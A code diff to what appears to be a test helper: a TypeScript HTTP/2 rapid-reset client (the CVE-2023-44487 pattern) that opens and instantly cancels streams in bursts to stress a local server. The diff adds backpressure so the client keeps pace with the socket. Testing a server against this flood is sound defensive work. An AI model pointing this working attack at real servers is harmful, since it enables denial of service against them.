@@ -1,7 +1,8 @@
 /**
  * A reconnecting HTTP/2 rapid-reset client (the CVE-2023-44487 pattern), run as its own process by
  * the attack tests: opens streams and cancels each at once, reconnecting whenever the server closes
- * the session. Stops after `--seconds`; prints one JSON line of counts. 127.0.0.1 only.
+ * the session. Stops after `<seconds>`; prints one JSON line of counts (`waits`: bursts held back
+ * because the previous ones were not yet on the wire). 127.0.0.1 only.
  * Usage: tsx rapid-reset-client.ts <port> <ca file> <seconds>
  */
 import { readFileSync } from 'node:fs';
@@ -11,7 +12,8 @@ const [portText, caFile, secondsText] = process.argv.slice(2);
 const port = Number(portText);
 const ca = readFileSync(caFile ?? '', 'utf8');
 const until = Date.now() + Number(secondsText ?? '10') * 1000;
-const counts = { sessions: 0, streams: 0, goaways: 0, refused: 0, errors: 0 };
+const counts = { sessions: 0, streams: 0, goaways: 0, refused: 0, errors: 0, waits: 0 };
+const MAX_PENDING = 1_000;
 
 function attack(): Promise<void> {
   return new Promise((resolve) => {
@@ -43,12 +45,24 @@ function attack(): Promise<void> {
     // Some servers drop the connection without a GOAWAY: the socket's end is the signal.
     session.socket.once('close', done);
     session.once('connect', () => {
+      // Streams opened and not yet closed on this session. A real attacker sends as fast as the
+      // socket takes it; queueing more than that only grows the client's own outbound queue, and
+      // nghttp2 then spends whole event-loop turns on it (the client stalled, timers included,
+      // and never printed its tally).
+      let pending = 0;
       const burst = () => {
         if (!open || session.destroyed || session.closed || Date.now() > until) return done();
+        if (pending > MAX_PENDING || (session.state.outboundQueueSize ?? 0) > MAX_PENDING) {
+          counts.waits++;
+          setTimeout(burst, 1);
+          return;
+        }
         for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
           try {
             const stream = session.request({ ':method': 'GET', ':path': '/healthz' });
+            pending++;
             stream.on('error', () => counts.refused++);
+            stream.once('close', () => pending--);
             stream.close(http2.constants.NGHTTP2_CANCEL);
             counts.streams++;
           } catch {
